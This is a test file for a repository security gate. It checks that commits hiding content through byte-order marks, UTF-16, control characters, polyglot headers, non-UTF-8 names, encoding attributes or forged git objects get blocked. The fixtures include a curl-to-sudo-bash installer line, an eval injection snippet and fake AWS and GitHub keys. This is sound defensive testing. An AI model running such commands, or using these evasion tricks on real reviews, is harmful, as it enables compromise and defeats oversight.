import { spawnSync } from 'node:child_process'
import { copyFileSync, rmSync, writeFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { gate, gateEnvironment, gateJson } from '../support/gate.ts'
import { GIT_ENVIRONMENT, Repo } from '../support/repository.ts'
import { runJson } from '../support/run.ts'
import { newMachine } from '../support/signed-project.ts'

/** Files whose bytes, names or attributes give a program another text than the one that is judged. */

const KEY = ['AK', 'IAQ3EGRZ7WN5MXK2TB'].join('')
const TOKEN = ['gh', 'p_Xa7Kq2Lm9Zr4Tn8Wb3Vc6Hd1Jf5Gs0PyUeIo'].join('')
const LEAK = `AWS_ACCESS_KEY_ID=${KEY}\n`
const PIPE = '#!/bin/bash\ncurl -s http://example.org/install | sudo bash\n'
const CONTROLS = `#${'\u0001\u0002\u0007'.repeat(40)}\n`
const EVIL = 'export const run = (text: string) => eval(text)\n'

const utf16 = (text: string, mark = '\ufeff'): Buffer => Buffer.from(`${mark}${text}`, 'utf16le')
const behind = (mark: readonly number[], text: string): Buffer =>
  Buffer.concat([Buffer.from(mark), Buffer.from(text)])

const STAGES = ['PRE_COMMIT', 'PRE_PUSH', 'CI'] as const

const judge = (repo: Repo, stage: (typeof STAGES)[number]) => {
  const scope = stage === 'PRE_COMMIT' ? ['--scope', 'staged'] : ['--range', 'main..HEAD']
  return gateJson(repo, ['--stage', stage, '--no-evidence', ...scope])
}

/** `file rule` of what blocks. */
const blocking = (repo: Repo, stage: (typeof STAGES)[number]): readonly string[] => {
  const { code, outcome, findings } = judge(repo, stage)
  expect({ stage, code, outcome }).toEqual({ stage, code: 1, outcome: 'BLOCK' })
  return findings
    .filter(({ severity, state }) => state === 'new' && (severity === 'CRITICAL' || severity === 'ERROR'))
    .map(({ file, ruleId }) => `${file} ${ruleId}`)
}

const branch = (files: Readonly<Record<string, string>> = { 'a.txt': 'a\n' }): Repo => {
  const repo = Repo.init('main').commit(files)
  repo.git('checkout', '-q', '-b', 'feature/x')
  return repo
}

const stageBytes = (repo: Repo, files: Readonly<Record<string, string | Buffer>>): Repo =>
  repo.stage(files as Record<string, string>)

/** Adds an entry whose name is no UTF-8. */
const stageNamed = (repo: Repo, name: Buffer, text: string): void => {
  const path = Buffer.concat([Buffer.from(`${repo.folder}/`), name])
  writeFileSync(path, text)
  repo.git('add', '-A')
}

describe('a file with two readings', () => {
  const FILES: readonly (readonly [path: string, bytes: Buffer, rule: string])[] = [
    ['0/.env', behind([0xfe, 0xff], LEAK), 'secrets.aws-access-key-id'],
    ['1/deploy.sh', behind([0xff, 0xfe], PIPE), 'gate.ambiguous-encoding'],
    ['1/twice.sh', behind([0xff, 0xfe, 0xff, 0xfe], PIPE), 'gate.ambiguous-encoding'],
    ['2/Makefile', behind([0xfe, 0xff], 'all:\n\techo a\n'), 'gate.ambiguous-encoding'],
    ['3/.env', Buffer.from(LEAK, 'utf16le'), 'secrets.aws-access-key-id'],
    ['4/.env', Buffer.from(`${CONTROLS}${LEAK}`), 'secrets.aws-access-key-id'],
    ['5/Dockerfile', Buffer.from(`${CONTROLS}FROM a\nENV K=${KEY}\n`), 'secrets.aws-access-key-id'],
    ['6/.env', Buffer.from(`GIF89a=1\n${LEAK}`), 'secrets.aws-access-key-id'],
    ['7/a.json', Buffer.from(`{ "key": "\\u0041${KEY.slice(1)}" }\n`), 'secrets.aws-access-key-id'],
    ['8/a.gif.js', Buffer.from(`GIF89a=1;${EVIL.replace(': string', '')}`), 'javascript.eval'],
  ]

  it('is judged in both', () => {
    const repo = stageBytes(branch(), Object.fromEntries(FILES.map(([path, bytes]) => [path, bytes])))
    expect(blocking(repo, 'PRE_COMMIT')).toEqual(
      expect.arrayContaining(FILES.map(([path, , rule]) => `${path} ${rule}`)),
    )
  })

  it('shows the secret of neither beside another finding', () => {
    const text = `{\n  "a": "\\u0041${KEY.slice(1)}",\n  "b": "${TOKEN}"\n}\n`
    const repo = branch().stage({ 'a.json': text })
    const { stdout } = gate(repo, ['--stage', 'PRE_COMMIT'])
    expect(stdout).toContain('secrets.github-token')
    expect(stdout).not.toContain(KEY.slice(1))
  })

  it('is not suspected where it is an ordinary one', () => {
    const text = 'IDS_OPEN = "Öffnen, ouvrir, 開く";\r\nIDS_NAME "名前 🙂"\r\n'
    const repo = stageBytes(branch(), {
      'app.rc': utf16(text.repeat(20)),
      'Localizable.strings': utf16('"a" = "é";\n'),
      'merged.strings': utf16('\ufeff"a" = "é";\n'),
      'ja.strings': utf16('「こんにちは世界」、ようこそ。\n'.repeat(50)),
      'hi.strings': utf16('नमस्ते दुनिया, आप कैसे हैं?\n'.repeat(50)),
      'be.strings': Buffer.from(utf16(text)).swap16(),
      'plain.txt': 'é ü 漢 🙂\r\n',
      'marked.ts': '\ufeffexport const a = 1\r\n',
      'logo.png': Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
    })
    expect(judge(repo, 'PRE_COMMIT')).toMatchObject({ findings: [], files: { skipped: { binary: 1 } } })
  })
})

describe('an attribute', () => {
  it('that lets git write another encoding into checkouts blocks', () => {
    const repo = branch().stage({
      'a/.gitattributes': '*.ts working-tree-encoding=IBM037\n',
      'b/.gitattributes': '*.txt working-tree-encoding=ASCII//TRANSLIT\n',
      'c/.gitattributes': '*.ts working-tree-encoding=Shift_JIS\n',
    })
    expect(blocking(repo, 'PRE_COMMIT')).toEqual(
      expect.arrayContaining(['a', 'b', 'c'].map((name) => `${name}/.gitattributes gate.ambiguous-encoding`)),
    )
  })

  it.each([
    { '.gitattributes': 'src/** linguist-generated\n', 'a/.gitattributes': '*.js filter=lfs\n' },
    { '.gitattributes': '[attr]x filter=lfs\n*.js x\n' },
    {
      '.gitattributes': '*.py working-tree-encoding=UTF-16LE-BOM\n',
      '.gitmodules': '[submodule "a"]\n\tpath = a\n\turl = ../a\n\tignore = all\n',
    },
  ])('that takes files from the rules is a change of policy (%#)', (files) => {
    expect(blocking(branch().commit(files), 'CI')).toEqual(
      expect.arrayContaining(Object.keys(files).map((path) => `${path} gate.policy-changed`)),
    )
  })

  it('that reaches no source file, or only line ends, is none', () => {
    const repo = branch().stage({
      '.gitattributes':
        '*.png filter=lfs -text\n* text=auto eol=lf\n*.rc working-tree-encoding=UTF-16LE-BOM\n*.pb.go linguist-generated\n*.csv linguist-vendored\n',
    })
    expect(judge(repo, 'PRE_COMMIT').findings).toEqual([])
  })
})

describe('names that are no UTF-8', () => {
  it('are two files', () => {
    const repo = branch()
    stageNamed(repo, Buffer.from([0x65, 0xfe, 0x2e, 0x74, 0x73]), EVIL)
    stageNamed(repo, Buffer.from([0x65, 0xff, 0x2e, 0x74, 0x73]), 'export {}\n')
    repo.git('commit', '-qm', 'x')
    const { findings, files } = judge(repo, 'CI')
    expect(files.changed).toBe(2)
    expect(findings.map(({ file }) => file)).toContain('e\\xfe.ts')
  })

  it('of which a tree holds one twice are a fault', () => {
    const repo = branch()
    const git = (input: string | Buffer, ...args: readonly string[]) =>
      spawnSync('git', [...args], { cwd: repo.folder, input, env: { ...process.env, ...GIT_ENVIRONMENT } })
        .stdout.toString()
        .trim()
    const ids = [EVIL, 'export {}\n'].map((text) => git(text, 'hash-object', '-w', '--stdin'))
    const entries = ids.map((id) => Buffer.concat([Buffer.from('100644 a.ts\0'), Buffer.from(id, 'hex')]))
    const tree = git(Buffer.concat(entries), 'hash-object', '-w', '-t', 'tree', '--literally', '--stdin')
    const commit = repo.git('commit-tree', tree, '-p', 'main', '-m', 'x').trim()
    repo.git('update-ref', 'refs/heads/twice', commit)
    expect(gateJson(repo, ['--stage', 'CI', '--range', 'main..twice'])).toMatchObject({
      error: { code: 'git.failed', message: expect.stringContaining('a.ts') },
    })
  })
})

describe('an object of git', () => {
  const objectFile = (repo: Repo, name: string): string => {
    const id = repo.git('rev-parse', name).trim()
    return repo.path('.git/objects', id.slice(0, 2), id.slice(2))
  }

  it.each(['main^{tree}', 'HEAD:src/deep'])(
    'with the content of another tree under the id of %s stops the gate',
    (name) => {
      const files = { 'src/deep/a.ts': 'export {}\n', 'src/b.ts': 'export {}\n' }
      const repo = branch(files).commit({ 'src/deep/evil.ts': EVIL })
      const honest = objectFile(repo, name.startsWith('main') ? 'HEAD^{tree}' : name.replace('HEAD', 'main'))
      const forged = objectFile(repo, name)
      rmSync(forged)
      copyFileSync(honest, forged)
      expect(gateJson(repo, ['--stage', 'PRE_PUSH', '--range', 'main..HEAD'])).toMatchObject({
        error: { code: 'git.failed' },
      })
    },
  )
})

describe('the evidence file', () => {
  it('is searched for secrets', () => {
    const repo = branch().stage({ '.ai_evidence.json': `{ "note": "${KEY}" }\n` })
    expect(blocking(repo, 'PRE_COMMIT')).toEqual(['.ai_evidence.json secrets.aws-access-key-id'])
  })

  it('that the gate wrote about a secret holds none', () => {
    const repo = branch().stage({ '.env': LEAK })
    expect(gateJson(repo, ['--stage', 'PRE_COMMIT']).code).toBe(1)
    repo.git('rm', '-q', '--cached', '.env')
    repo.git('add', '-f', '.ai_evidence.json')
    expect(judge(repo, 'PRE_COMMIT').findings).toEqual([])
  })
})

const MARKED = '// @generated by a program\nexport const a = 1\n'

/** Four files that hide what they hold: a mark, an attribute, control characters, a name that two files share. */
const stageHidden = (repo: Repo): Repo => {
  stageBytes(repo, {
    'src/gen.ts': `${MARKED}${EVIL}`,
    '.gitattributes': '*.ts working-tree-encoding=IBM037\n',
    '.env': Buffer.from(`${CONTROLS}${LEAK}`),
  })
  stageNamed(repo, Buffer.from([0x65, 0xfe, 0x2e, 0x6a, 0x73]), EVIL.replace(': string', ''))
  stageNamed(repo, Buffer.from([0x65, 0xff, 0x2e, 0x6a, 0x73]), 'export {}\n')
  return repo
}

describe('a commit of four files that hide what they hold', () => {
  const repo = stageHidden(branch({ 'src/gen.ts': MARKED, 'package.json': '{}\n' }))

  it.each(STAGES)('is blocked at %s, for each of them', (stage) => {
    if (stage === 'PRE_PUSH') repo.git('commit', '-qm', 'x')
    const found = blocking(repo, stage)
    expect(found).toEqual(
      expect.arrayContaining(['.env secrets.aws-access-key-id', '.gitattributes gate.ambiguous-encoding']),
    )
    const files = judge(repo, stage).findings.map(({ file }) => file)
    expect(files).toEqual(expect.arrayContaining(['src/gen.ts', 'e\\xfe.js']))
  })

  it('is refused by both git hooks that `warrant init` writes', () => {
    const [remote, guarded] = [new Repo(), branch({ 'src/gen.ts': MARKED, 'package.json': '{}\n' })]
    remote.git('init', '-q', '--bare', '-b', 'main')
    guarded.git('remote', 'add', 'origin', remote.folder)
    guarded.git('push', '-q', 'origin', 'main')
    const user = newMachine()
    expect(runJson(guarded.folder, ['init', '--yes'], { ...GIT_ENVIRONMENT, ...user }).status).toBe(0)
    stageHidden(guarded)
    const env = { ...gateEnvironment(), ...GIT_ENVIRONMENT, ...user }
    const git = (...args: readonly string[]) => {
      const { status, stdout, stderr } = spawnSync('git', args, {
        cwd: guarded.folder,
        env,
        encoding: 'utf8',
      })
      return [status, stdout + stderr]
    }
    const refused = (stage: string) => [1, expect.stringContaining(`BLOCKED ${stage}`)]
    expect(git('commit', '-m', 'x')).toEqual(refused('PRE_COMMIT'))
    git('commit', '-q', '--no-verify', '-m', 'x')
    expect(git('push', 'origin', 'HEAD')).toEqual(refused('PRE_PUSH'))
    expect(remote.git('for-each-ref')).not.toContain('feature')
  })
})
